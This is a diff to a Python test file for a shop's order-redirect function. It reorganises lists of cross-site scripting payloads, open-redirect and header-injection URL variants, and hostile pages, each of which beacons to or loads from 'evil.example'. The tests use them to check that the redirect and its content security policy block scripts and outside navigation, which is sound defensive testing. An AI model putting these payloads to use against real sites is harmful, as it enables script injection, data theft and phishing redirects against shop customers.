@@ -23,73 +23,49 @@ _ENVIRONMENT = resolved(**PARAMETERS)["RecheckFunction"]["Properties"]["Environm
 _ORIGINS = {"REDIRECT_URL_TEMPLATE": f"{SHOP}/orders/{{orderId}}", "REDIRECT_ALLOWED_ORIGINS": SHOP}
 SETTINGS = read_settings(_ENVIRONMENT | _ORIGINS)
 CALL = "navigator.sendBeacon('//evil.example')"
-SCRIPTS = [
-    f"<script>{CALL}</script>",
-    f'"><script>{CALL}</script>',
-    f"'><script>{CALL}</script>",
-    f"--></title></style><script>{CALL}</script>",
-    f"&quot;&gt;&lt;script&gt;{CALL}",
-    f"\N{FULLWIDTH QUOTATION MARK}\N{FULLWIDTH GREATER-THAN SIGN}\N{FULLWIDTH LESS-THAN SIGN}script>{CALL}</script>",
+SCRIPTS = [f"<script>{CALL}</script>", f'"><script>{CALL}</script>', f"'><script>{CALL}</script>"]
+SCRIPTS += [f"--></title></style><script>{CALL}</script>", f"&quot;&gt;&lt;script&gt;{CALL}"]
+SCRIPTS += [
+    f"\uff02\uff1e\uff1cscript>{CALL}</script>",
     f'\0"\0><\0script>{CALL}</script>',
     f"+ACIAPgA8-script+AD4-{CALL}",
+]
+SCRIPTS += [
     f'"><img src=x onerror="{CALL}">',
     f"'\"><svg onload={CALL}>",
-    f'" onfocus="{CALL}" autofocus style="background:url(//evil.example)',
     f'"><iframe src="javascript:{CALL}"></iframe>',
-    '"><base href=//evil.example/>',
-    '"><meta http-equiv=refresh content="0;url=http://evil.example/">',
-    '"><iframe src=//evil.example></iframe><object data=//evil.example></object>',
-    '"><link rel=stylesheet href=//evil.example><style>@import"//evil.example"</style>',
-    '\N{LINE SEPARATOR}"\r\n><style>*{background:url(//evil.example)}</style>',
 ]
-PLACES = [
-    "http://evil.example/",
-    "https://evil.example/",
-    "https:evil.example",
-    "//evil.example/",
-    "/\\evil.example/",
-    "\\\\evil.example\\",
-    "/\t/evil.example/",
-    "\x01\n http://evil.example/",
-    f"{SHOP}@evil.example/",
-    f"{SHOP}.evil.example/",
+SCRIPTS += [f'" onfocus="{CALL}" autofocus style="background:url(//evil.example)', '"><base href=//evil.example/>']
+SCRIPTS += ['"><meta http-equiv=refresh content="0;url=http://evil.example/">']
+SCRIPTS += ['"><iframe src=//evil.example></iframe><object data=//evil.example></object>']
+SCRIPTS += ['"><link rel=stylesheet href=//evil.example><style>@import"//evil.example"</style>']
+SCRIPTS += ['\u2028"\r\n><style>*{background:url(//evil.example)}</style>']
+PLACES = ["http://evil.example/", "https:evil.example", "//evil.example/", "/\\evil.example/", "\\\\evil.example\\"]
+PLACES += ["/\t/evil.example/", "\x01\n http://evil.example/", f"{SHOP}@evil.example/", f"{SHOP}.evil.example/"]
+PLACES += [
     f"{SHOP}:8080/",
     "..//evil.example/",
     "http://evil.example\\@shop.example/",
     "http://evil.example#@shop.example/",
-    "http://sh\N{CYRILLIC SMALL LETTER O}p.example/",
-    "0;url=http://evil.example/",
-    "';url=http://evil.example/",
-    '"; url="http://evil.example/',
 ]
-# What turns `http://shop.example` into somebody else, were it to follow at once.
-TAILS = [
-    "@evil.example/",
-    ":80@evil.example/",
-    ".evil.example/",
-    "\\@evil.example/",
-    "\t@evil.example/",
-    "\r\n.evil.example/",
-    "%40evil.example/",
-    "%0d%0aLocation:%20http://evil.example/",
-    "\N{IDEOGRAPHIC FULL STOP}evil.example/",
-    "\N{FULLWIDTH COMMERCIAL AT}evil.example/",
-    "\N{FULLWIDTH SOLIDUS}@evil.example/",
-    "\N{SOFT HYPHEN}.evil.example/",
-]
+PLACES += ["http://sh\u043ep.example/", "0;url=http://evil.example/", "';url=http://evil.example/"]
+PLACES += ['"; url="http://evil.example/']
+# What turns `http://shop.example` into another site, were it to follow at once.
+TAILS = ["@evil.example/", ":80@evil.example/", ".evil.example/", "\\@evil.example/", "\t@evil.example/"]
+TAILS += ["\r\n.evil.example/", "%40evil.example/", "%0d%0aLocation:%20http://evil.example/", "\u3002evil.example/"]
+TAILS += ["\uff20evil.example/", "\uff0f@evil.example/", "\u00ad.evil.example/"]
 PLAIN = {"Content-Type": "text/html; charset=utf-8"}
-REFRESH = f'<meta http-equiv="refresh" content="0;url=http://{HOME}">'
 BAD_PAGES = {
-    "script": "<script>navigator.sendBeacon('//script.evil.example')</script>" + REFRESH,
-    "location": "<script>location='//location.evil.example'</script>" + REFRESH,
-    "error": "<img src=x: onerror=\"navigator.sendBeacon('//error.evil.example')\">" + REFRESH,
-    "svg": "<svg onload=\"navigator.sendBeacon('//svg.evil.example')\"></svg>" + REFRESH,
-    "image": "<img src=//image.evil.example>" + REFRESH,
-    "tls": "<img src=https://tls.evil.example>" + REFRESH,
-    "frame": "<iframe src=//frame.evil.example></iframe>" + REFRESH,
-    "sheet": "<link rel=stylesheet href=//sheet.evil.example>" + REFRESH,
-    "style": "<style>@import '//style.evil.example';</style>" + REFRESH,
-    "base": "<base href=//base.evil.example><img src=/>" + REFRESH,
+    "script": "<script>navigator.sendBeacon('//script.evil.example')</script>",
+    "location": "<script>location='//location.evil.example'</script>",
+    "error": "<img src=x: onerror=\"navigator.sendBeacon('//error.evil.example')\">",
+    "svg": "<svg onload=\"navigator.sendBeacon('//svg.evil.example')\"></svg>",
+    "image": "<img src=//image.evil.example>",
+    "tls": "<img src=https://tls.evil.example>",
+    "frame": "<iframe src=//frame.evil.example></iframe>",
+    "sheet": "<link rel=stylesheet href=//sheet.evil.example>",
+    "style": "<style>@import '//style.evil.example';</style>",
+    "base": "<base href=//base.evil.example><img src=/>",
 }
 
 
@@ -148,5 +124,6 @@ def test_no_text_runs_a_script_or_leads_away(visitor: Visitor, payload: str) -> 
 @pytest.mark.parametrize("name", BAD_PAGES)
 def test_policy_stops_what_would_get_in(visitor: Visitor, name: str) -> None:
     """Without the policy a bad page is seen to ask a stranger; with it, it does nothing but lead to the shop."""
-    assert f"{name}.evil.example/" in visitor.visit(BAD_PAGES[name], PLAIN)
-    assert visitor.visit(BAD_PAGES[name], redirect(ORDER, None, SETTINGS)["headers"]) == [HOME]
+    page = BAD_PAGES[name] + f'<meta http-equiv="refresh" content="0;url=http://{HOME}">'
+    assert f"{name}.evil.example/" in visitor.visit(page, PLAIN)
+    assert visitor.visit(page, redirect(ORDER, None, SETTINGS)["headers"]) == [HOME]
